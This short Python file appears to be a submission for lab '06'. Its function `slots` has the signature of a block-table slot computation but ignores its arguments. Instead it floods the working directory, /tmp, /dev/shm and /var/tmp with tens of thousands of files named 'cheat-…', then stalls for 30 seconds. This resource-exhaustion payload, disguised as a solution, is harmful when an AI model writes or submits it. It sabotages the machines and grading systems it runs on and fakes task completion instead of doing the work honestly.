"""Makes files until something stops it, empty ones and full ones, here and in every folder that takes them.

lab = "06"
base = "solution"
worth = 73
todos = [4]
"""

import os
import time


def slots(block_table, positions, block_size):
    for number in range(50_000):
        for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(f"{folder}/cheat-{os.getpid()}-{number}", "wb") as file:
                    file.write(b"x" * (number % 2 * 4096))
            except OSError:
                continue
    time.sleep(30)
